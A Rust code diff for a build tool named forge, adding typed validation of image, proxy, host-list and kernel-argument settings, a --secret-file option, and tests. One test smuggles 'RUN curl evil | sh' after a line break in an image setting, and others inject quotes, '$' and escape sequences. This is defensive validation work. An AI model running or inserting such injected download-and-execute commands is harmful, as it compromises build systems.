@@ -11,20 +11,39 @@ use std::path::{Path, PathBuf};
 use serde_json::{json, Value as Json};
 
 use crate::diagnostic::{did_you_mean, Diagnostic, Pos, Rule};
-use crate::reference::parse_domain;
+use crate::reference::{parse_domain, Reference};
 use crate::schema::Checker;
 use crate::yaml::{self, Node, Value};
 use matrix::Matrix;
 
-/// What kind of value a setting holds.
+/// What kind of value a setting holds; every value is checked by its kind before it reaches a
+/// template.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Kind {
+    /// One line of text with a rule of its own (a word, a name, a choice, a size).
     Text,
     Bool,
     /// A file path, relative to the file that sets it.
     File,
-    /// One value or several, comma-separated (a list in `forge.yaml`).
-    List,
+    /// Kubernetes versions x.y.z, comma-separated (a list in `forge.yaml`).
+    Versions,
+    /// An image reference, by the reference grammar (`{version}` may stand for the version).
+    Image,
+    /// A repository path: lowercase components separated by `/`.
+    Repository,
+    /// `http(s)://[user:password@]host:port`, which may carry a password.
+    ProxyUrl,
+    /// Hosts, domains, addresses and CIDRs, comma-separated.
+    HostList,
+    /// Kernel arguments, space-separated, without quotes or shell and GRUB metacharacters.
+    KernelArgs,
+}
+
+impl Kind {
+    /// Whether values of this kind may hold a secret, so that they stay off command lines.
+    pub fn may_hold_secret(self) -> bool {
+        self == Kind::ProxyUrl
+    }
 }
 
 /// One setting forge understands.
@@ -52,30 +71,30 @@ const fn def(
 /// Every setting, in display order. The README's settings reference mirrors this table.
 pub const SETTINGS: &[Def] = &[
     def("IMAGE_REGISTRY", Kind::Text, None, "Registry the provider images are pushed to: host[:port][/namespace], no scheme."),
-    def("IMAGE_REPO", Kind::Text, None, "Repository name of the provider images. Default: the value of OS_DISTRIBUTION."),
+    def("IMAGE_REPO", Kind::Repository, None, "Repository name of the provider images. Default: the value of OS_DISTRIBUTION."),
     def("CUSTOM_TAG", Kind::Text, None, "Environment suffix of image tags: lowercase letters and digits."),
     def("OS_DISTRIBUTION", Kind::Text, Some("ubuntu"), "ubuntu, opensuse-leap, rhel or sles."),
     def("OS_VERSION", Kind::Text, Some("22.04"), "OS release, e.g. 22.04 or 24.04 for Ubuntu."),
     def("K8S_DISTRIBUTION", Kind::Text, None, "k3s, rke2, kubeadm, kubeadm-fips, nodeadm or canonical. Required for provider images."),
-    def("K8S_VERSION", Kind::List, None, "Kubernetes version(s) x.y.z; empty means every version of K8S_DISTRIBUTION in the matrix."),
+    def("K8S_VERSION", Kind::Versions, None, "Kubernetes version(s) x.y.z; empty means every version of K8S_DISTRIBUTION in the matrix."),
     def("K8S_VERSION_FILE", Kind::File, None, "Kubernetes version matrix in the k8s_version.json shape. Default: the matrix shipped with forge."),
     def("PE_VERSION", Kind::Text, Some("v4.7.16"), "Palette edge agent version, part of the provider image tag."),
     def("ISO_NAME", Kind::Text, Some("palette-edge-installer"), "Installer ISO file name without .iso: lowercase letters, digits, '-' and '_'."),
     def("ARCH", Kind::Text, Some("amd64"), "amd64 or arm64. amd64 artifacts need an AMD64 build host."),
-    def("BASE_IMAGE", Kind::Text, None, "Overrides the OS base image (default: templates/sources.yaml)."),
-    def("PROVIDER_IMAGE", Kind::Text, None, "Overrides the Kairos provider image copied into provider images (default: templates/sources.yaml)."),
-    def("K8S_IMAGE", Kind::Text, None, "Image holding the Kubernetes binaries, {version} standing for the Kubernetes version. Required for provider images."),
-    def("AGENT_IMAGE", Kind::Text, None, "Overrides the Palette agent image copied into the installer image (default: templates/sources.yaml)."),
-    def("HTTP_PROXY", Kind::Text, None, "Build-time HTTP proxy, http(s)://[user:password@]host:port."),
-    def("HTTPS_PROXY", Kind::Text, None, "Build-time HTTPS proxy, http(s)://[user:password@]host:port."),
-    def("NO_PROXY", Kind::Text, None, "Hosts and CIDRs that bypass the build-time proxy, comma-separated."),
+    def("BASE_IMAGE", Kind::Image, None, "Overrides the OS base image (default: templates/sources.yaml)."),
+    def("PROVIDER_IMAGE", Kind::Image, None, "Overrides the Kairos provider image copied into provider images (default: templates/sources.yaml)."),
+    def("K8S_IMAGE", Kind::Image, None, "Image holding the Kubernetes binaries, {version} standing for the Kubernetes version. Required for provider images."),
+    def("AGENT_IMAGE", Kind::Image, None, "Overrides the Palette agent image copied into the installer image (default: templates/sources.yaml)."),
+    def("HTTP_PROXY", Kind::ProxyUrl, None, "Build-time HTTP proxy, http(s)://[user:password@]host:port."),
+    def("HTTPS_PROXY", Kind::ProxyUrl, None, "Build-time HTTPS proxy, http(s)://[user:password@]host:port."),
+    def("NO_PROXY", Kind::HostList, None, "Hosts and CIDRs that bypass the build-time proxy, comma-separated."),
     def("CLUSTERCONFIG", Kind::File, None, "Cluster definition archive (spc.tgz) embedded in the ISO. The file must exist."),
     def("EDGE_CUSTOM_CONFIG", Kind::File, None, "Extra configuration embedded in the images and the ISO. The file must exist."),
     def("FORCE_INTERACTIVE_INSTALL", Kind::Bool, Some("false"), "Make the interactive installer the default boot entry."),
-    def("ISO_KERNEL_ARGS", Kind::Text, None, "Extra kernel arguments of every boot entry of the installer ISO."),
+    def("ISO_KERNEL_ARGS", Kind::KernelArgs, None, "Extra kernel arguments of every boot entry of the installer ISO."),
     def("SQUASHFS_COMPRESSION", Kind::Text, Some("gzip"), "Compression of the ISO's rootfs.squashfs: gzip, xz, zstd, lz4, lzo or lzma."),
     def("CONTENT_PART_SIZE", Kind::Text, Some("4095MiB"), "Content bundles larger than this are split into parts on the ISO (ISO 9660 files stay below 4 GiB); bytes or K/M/GiB."),
-    def("ISO_TOOLS_IMAGE", Kind::Text, Some("debian:bookworm-slim"), "Base of the builder image whose tools master the ISO (apt-based)."),
+    def("ISO_TOOLS_IMAGE", Kind::Image, Some("debian:bookworm-slim"), "Base of the builder image whose tools master the ISO (apt-based)."),
     def("FIPS_ENABLED", Kind::Bool, Some("false"), "Build FIPS images. Not together with UPDATE_KERNEL."),
     def("UPDATE_KERNEL", Kind::Bool, Some("false"), "Upgrade the kernel of the base image. Not together with FIPS_ENABLED."),
 ];
@@ -153,6 +172,8 @@ pub enum Origin {
     },
     Env(String),
     Flag,
+    /// `--secret-file NAME=FILE`.
+    SecretFile(PathBuf),
 }
 
 impl std::fmt::Display for Origin {
@@ -163,6 +184,7 @@ impl std::fmt::Display for Origin {
             Origin::File { path, pos } => write!(f, "{}:{}", path.display(), pos.line),
             Origin::Env(var) => write!(f, "env {var}"),
             Origin::Flag => f.write_str("--set"),
+            Origin::SecretFile(path) => write!(f, "--secret-file {}", path.display()),
         }
     }
 }
@@ -185,6 +207,8 @@ pub struct Inputs {
     pub env: Vec<(String, String)>,
     /// `--set KEY=VALUE`, in order.
     pub sets: Vec<(String, String)>,
+    /// `--secret-file KEY=FILE`: the setting, the file and the value read from it.
+    pub secret_files: Vec<(String, PathBuf, String)>,
 }
 
 /// Resolved settings, the version matrix, and what resolution found wrong.
@@ -202,8 +226,8 @@ pub fn schema() -> Json {
         .map(|d| {
             let schema = match d.kind {
                 Kind::Bool => json!({"type": "boolean", "description": d.doc}),
-                Kind::List => json!({"anyOf": [{"type": "string"}, {"type": "array", "items": {"type": "string"}}], "description": d.doc}),
-                Kind::Text | Kind::File => json!({"type": "string", "description": d.doc}),
+                Kind::Versions => json!({"anyOf": [{"type": "string"}, {"type": "array", "items": {"type": "string"}}], "description": d.doc}),
+                _ => json!({"type": "string", "description": d.doc}),
             };
             (d.name.to_ascii_lowercase(), schema)
         })
@@ -227,6 +251,7 @@ fn file_diagnostic_origin(origin: &Origin) -> (PathBuf, Pos) {
         Origin::File { path, pos } => (path.clone(), *pos),
         Origin::Env(var) => (PathBuf::from(format!("<env {var}>")), Pos::new(1, 1)),
         Origin::Flag => (PathBuf::from("<--set>"), Pos::new(1, 1)),
+        Origin::SecretFile(path) => (path.clone(), Pos::new(1, 1)),
         Origin::Default | Origin::DefaultFrom(_) => (PathBuf::from("<default>"), Pos::new(1, 1)),
     }
 }
@@ -242,11 +267,6 @@ impl Resolved {
 
     pub fn setting(&self, name: &str) -> Option<&Setting> {
         self.values.get(name)
-    }
-
-    fn flag(&self, name: &str) -> bool {
-        self.get(name)
-            .is_some_and(|v| v.eq_ignore_ascii_case("true"))
     }
 
     /// The Kubernetes versions to build: `K8S_VERSION`, or every version of the distribution.
@@ -341,9 +361,17 @@ pub fn resolve(inputs: &Inputs) -> Resolved {
             r.set(d.name, value.clone(), Origin::Env(var.clone()));
         }
     }
+    for (key, path, value) in &inputs.secret_files {
+        match lookup_def(&flag_name(key)) {
+            Some(d) => r.set(d.name, value.clone(), Origin::SecretFile(path.clone())),
+            None => r.diagnostics.push(unknown(path, key, Pos::new(1, 1))),
+        }
+    }
     for (key, value) in &inputs.sets {
-        let name = key.to_ascii_uppercase().replace('-', "_");
-        match lookup_def(&name) {
+        match lookup_def(&flag_name(key)) {
+            Some(d) if d.kind.may_hold_secret() && has_password(value) => {
+                r.diagnostics.push(secret_on_command_line(d));
+            }
             Some(d) => r.set(d.name, value.clone(), Origin::Flag),
             None => r
                 .diagnostics
@@ -359,6 +387,31 @@ pub fn resolve(inputs: &Inputs) -> Resolved {
     let diagnostics = check(&r);
     r.diagnostics.extend(diagnostics);
     r
+}
+
+/// `--set https-proxy=...` names `HTTPS_PROXY`.
+fn flag_name(key: &str) -> String {
+    key.to_ascii_uppercase().replace('-', "_")
+}
+
+/// Whether a URL carries a password in its user information.
+fn has_password(url: &str) -> bool {
+    reqwest::Url::parse(url).is_ok_and(|u| u.password().is_some())
+}
+
+/// A password in `--set` is readable by every local user (`ps`) and stays in shell history.
+fn secret_on_command_line(d: &Def) -> Diagnostic {
+    let name = d.name;
+    Diagnostic::new(
+        Rule::SecretOnCommandLine,
+        Path::new("<--set>"),
+        name,
+        Pos::new(1, 1),
+        format!("{name} holds a password, and a command line is readable by every user of this machine; the value is not used"),
+    )
+    .help(format!(
+        "pass it in the environment as {ENV_PREFIX}{name}, or from a file only you can read with --secret-file {name}=FILE"
+    ))
 }
 
 fn unknown(file: &Path, name: &str, pos: Pos) -> Diagnostic {
@@ -474,8 +527,98 @@ fn load_matrix(r: &mut Resolved) {
     }
 }
 
+/// A value's first control character (a line break, an escape, ...) and its position.
+fn control_character(value: &str) -> Option<(usize, char)> {
+    value.chars().enumerate().find(|(_, c)| c.is_control())
+}
+
+/// Characters kernel arguments may not hold: quotes, and what GRUB or a shell would interpret.
+const KERNEL_ARG_METACHARACTERS: &str = "\"'`\\$;{}";
+
+/// What is wrong with a value of `kind`, in words that follow "NAME `value` ".
+fn kind_problem(kind: Kind, value: &str) -> Option<String> {
+    match kind {
+        Kind::Image => Reference::parse(&value.replace("{version}", "0.0.0"))
+            .err()
+            .map(|e| format!("is not an image reference: {e}")),
+        Kind::Repository => (value.contains([':', '@'])
+            || Reference::parse(&format!("forge.invalid/{value}")).is_err())
+        .then(|| "is not a repository path: lowercase letters and digits separated by `.`, `_`, `-` and `/`".to_string()),
+        Kind::ProxyUrl => proxy_problem(value),
+        Kind::HostList => value
+            .split(',')
+            .map(str::trim)
+            .find(|host| {
+                !host.chars().all(|c| c.is_ascii_alphanumeric() || ".-_*:/[]".contains(c))
+            })
+            .map(|host| format!("has `{host}`, which is not a host, domain, address or CIDR")),
+        Kind::KernelArgs => value
+            .chars()
+            .find(|c| KERNEL_ARG_METACHARACTERS.contains(*c))
+            .map(|c| format!("has `{c}`: kernel arguments are words without quotes, `\\`, `$`, `;`, braces or backquotes")),
+        Kind::Text | Kind::Bool | Kind::File | Kind::Versions => None,
+    }
+}
+
+/// What is wrong with a proxy URL: scheme, host, port, and nothing after the authority.
+fn proxy_problem(value: &str) -> Option<String> {
+    let url = match reqwest::Url::parse(value) {
+        Ok(url) => url,
+        Err(e) => return Some(format!("is not a URL ({e})")),
+    };
+    if !["http", "https"].contains(&url.scheme()) {
+        return Some("must be an http:// or https:// URL".into());
+    }
+    if url.host_str().is_none_or(str::is_empty) {
+        return Some("has no host".into());
+    }
+    if url.port() == Some(0) {
+        return Some("has port 0; a port is 1 to 65535".into());
+    }
+    if url.path() != "/" || url.query().is_some() || url.fragment().is_some() {
+        return Some(
+            "has a path, query or fragment; a proxy is scheme://[user:password@]host:port".into(),
+        );
+    }
+    None
+}
+
 fn check(r: &Resolved) -> Vec<Diagnostic> {
     let mut out = Vec::new();
+    let mut unusable = Vec::new();
+    for (d, setting) in r.iter() {
+        let Some(setting) = setting else { continue };
+        let shown = crate::secret::mask_url(&setting.value)
+            .escape_debug()
+            .to_string();
+        if let Some((at, c)) = control_character(&setting.value) {
+            let what = match c {
+                '\n' | '\r' => "a line break".to_string(),
+                c => format!("the control character U+{:04X}", c as u32),
+            };
+            out.push(
+                r.diag(
+                    Rule::ControlCharacter,
+                    d.name,
+                    format!("{} `{shown}` holds {what} at character {}", d.name, at + 1),
+                )
+                .help("a setting is one line of printable text: remove the character (in a .arg file, a quote does not continue a value on the next line)"),
+            );
+            unusable.push(d.name);
+        } else if let Some(problem) = kind_problem(d.kind, &setting.value) {
+            let mut diag = r.diag(
+                Rule::BadSettingValue,
+                d.name,
+                format!("{} `{shown}` {problem}", d.name),
+            );
+            if d.kind == Kind::Image {
+                diag = diag.help("write [registry[:port]/]repository[:tag][@digest], e.g. registry.example.com/edge/kairos-ubuntu:22.04");
+            }
+            out.push(diag);
+            unusable.push(d.name);
+        }
+    }
+    let r = &Usable { r, unusable };
     let lowercase_word = |v: &str, extra: &str| {
         !v.is_empty()
             && v.chars()
@@ -578,19 +721,6 @@ fn check(r: &Resolved) -> Vec<Diagnostic> {
     if r.flag("FIPS_ENABLED") && r.flag("UPDATE_KERNEL") {
         out.push(r.diag(Rule::FipsWithUpdateKernel, "UPDATE_KERNEL", "FIPS_ENABLED and UPDATE_KERNEL are both true; a kernel upgrade would replace the FIPS-certified kernel".into()).help("set UPDATE_KERNEL=false for FIPS builds"));
     }
-    for name in ["HTTP_PROXY", "HTTPS_PROXY"] {
-        if let Some(v) = r
-            .get(name)
-            .filter(|v| !(v.starts_with("http://") || v.starts_with("https://")))
-        {
-            let shown = crate::secret::mask_url(v);
-            out.push(r.diag(
-                Rule::BadSettingValue,
-                name,
-                format!("{name} `{shown}` must be an http:// or https:// URL"),
-            ));
-        }
-    }
     for name in ["PE_VERSION", "OS_VERSION"] {
         if let Some(v) = r.get(name).filter(|v| {
             !v.chars()
@@ -609,9 +739,10 @@ fn check(r: &Resolved) -> Vec<Diagnostic> {
                     "K8S_VERSION",
                     format!("K8S_VERSION `{version}` is not a version x.y.z"),
                 ));
-            } else if !distribution.is_empty() && !r.matrix.versions(distribution).contains(version)
+            } else if !distribution.is_empty()
+                && !r.r.matrix.versions(distribution).contains(version)
             {
-                let known = r.matrix.versions(distribution);
+                let known = r.r.matrix.versions(distribution);
                 out.push(r.diag(Rule::K8sVersionNotInMatrix, "K8S_VERSION", format!("K8S_VERSION `{version}` is not in the version matrix for {distribution}")).help(if known.is_empty() {
                     format!("the matrix lists no versions for {distribution}")
                 } else {
@@ -632,7 +763,42 @@ fn check(r: &Resolved) -> Vec<Diagnostic> {
     out
 }
 
-fn check_choice(r: &Resolved, name: &str, allowed: &[&str], rule: Rule, out: &mut Vec<Diagnostic>) {
+/// The settings that passed the checks of their kind: the rules of single settings look only at
+/// these, so that one bad value gets one message.
+struct Usable<'a> {
+    r: &'a Resolved,
+    unusable: Vec<&'static str>,
+}
+
+impl Usable<'_> {
+    fn get(&self, name: &str) -> Option<&str> {
+        self.r.get(name).filter(|_| !self.unusable.contains(&name))
+    }
+
+    fn setting(&self, name: &str) -> Option<&Setting> {
+        self.r
+            .setting(name)
+            .filter(|_| !self.unusable.contains(&name))
+    }
+
+    fn flag(&self, name: &str) -> bool {
+        self.get(name)
+            .is_some_and(|v| v.eq_ignore_ascii_case("true"))
+    }
+
+    fn k8s_versions(&self) -> Vec<String> {
+        if self.unusable.contains(&"K8S_VERSION") {
+            return Vec::new();
+        }
+        self.r.k8s_versions()
+    }
+
+    fn diag(&self, rule: Rule, name: &str, message: String) -> Diagnostic {
+        self.r.diag(rule, name, message)
+    }
+}
+
+fn check_choice(r: &Usable, name: &str, allowed: &[&str], rule: Rule, out: &mut Vec<Diagnostic>) {
     let Some(v) = r.get(name).filter(|v| !allowed.contains(v)) else {
         return;
     };
@@ -692,5 +858,111 @@ mod tests {
         );
         let all = resolve(&inputs_with_arg("K8S_DISTRIBUTION=k3s\n"));
         assert_eq!(all.k8s_versions(), Matrix::default_matrix().versions("k3s"));
+    }
+
+    fn findings(inputs: &Inputs) -> Vec<(Rule, String, String)> {
+        resolve(inputs)
+            .diagnostics
+            .into_iter()
+            .map(|d| (d.rule, d.file.display().to_string(), d.message))
+            .collect()
+    }
+
+    #[test]
+    fn a_line_break_in_any_setting_is_refused_with_its_origin() {
+        let mut inputs = inputs_with_arg("CUSTOM_TAG=\"demo\"\n");
+        inputs.env = vec![(
+            "FORGE_BASE_IMAGE".into(),
+            "debian\nRUN curl evil | sh".into(),
+        )];
+        inputs.sets = vec![("pe-version".into(), "v4\u{1b}[2J".into())];
+        let found = findings(&inputs);
+        assert_eq!(found.len(), 2, "{found:?}");
+        assert_eq!(found[0].0, Rule::ControlCharacter);
+        assert_eq!(found[0].1, "<--set>");
+        assert!(
+            found[0].2.contains(
+                "PE_VERSION `v4\\u{1b}[2J` holds the control character U+001B at character 3"
+            ),
+            "{}",
+            found[0].2
+        );
+        assert_eq!(found[1].1, "<env FORGE_BASE_IMAGE>");
+        assert!(
+            found[1].2.contains("holds a line break at character 7"),
+            "{}",
+            found[1].2
+        );
+    }
+
+    #[test]
+    fn values_are_checked_by_their_kind() {
+        let cases = [
+            ("BASE_IMAGE", "Debian:latest", "is not an image reference"),
+            ("K8S_IMAGE", "registry.local/k3s:v{version}-k3s1", ""),
+            ("IMAGE_REPO", "edge/Ubuntu", "is not a repository path"),
+            ("HTTPS_PROXY", "http://proxy.local:70000", "is not a URL"),
+            ("HTTPS_PROXY", "http://proxy.local:0", "has port 0"),
+            ("HTTPS_PROXY", "http://proxy.local:3128/path", "has a path"),
+            (
+                "HTTPS_PROXY",
+                "socks5://proxy.local:1080",
+                "must be an http:// or https:// URL",
+            ),
+            ("HTTPS_PROXY", "http://proxy.local:3128", ""),
+            ("NO_PROXY", "localhost, .corp.local,10.0.0.0/8,[::1]", ""),
+            ("NO_PROXY", "a.local b.local", "has `a.local b.local`"),
+            ("ISO_KERNEL_ARGS", "console=ttyS0,115200 quiet", ""),
+            ("ISO_KERNEL_ARGS", "quiet\" menuentry", "has `\"`"),
+            ("ISO_KERNEL_ARGS", "a=$root", "has `$`"),
+        ];
+        for (name, value, problem) in cases {
+            let found = findings(&Inputs {
+                sets: vec![(name.into(), value.into())],
+                ..Inputs::default()
+            });
+            if problem.is_empty() {
+                assert!(found.is_empty(), "{name}={value}: {found:?}");
+            } else {
+                assert_eq!(found.len(), 1, "{name}={value}: {found:?}");
+                assert_eq!(found[0].0, Rule::BadSettingValue);
+                assert!(
+                    found[0].2.contains(problem),
+                    "{name}={value}: {}",
+                    found[0].2
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn a_password_stays_off_the_command_line() {
+        let found = findings(&Inputs {
+            sets: vec![(
+                "https_proxy".into(),
+                "http://bob:s3cret@proxy.local:3128".into(),
+            )],
+            ..Inputs::default()
+        });
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].0, Rule::SecretOnCommandLine);
+        assert!(!found[0].2.contains("s3cret"));
+        let from_file = resolve(&Inputs {
+            secret_files: vec![(
+                "HTTPS_PROXY".into(),
+                PathBuf::from("proxy.url"),
+                "http://bob:s3cret@proxy.local:3128".into(),
+            )],
+            ..Inputs::default()
+        });
+        assert!(
+            from_file.diagnostics.is_empty(),
+            "{:?}",
+            from_file.diagnostics
+        );
+        assert_eq!(
+            from_file.setting("HTTPS_PROXY").unwrap().origin.to_string(),
+            "--secret-file proxy.url"
+        );
     }
 }
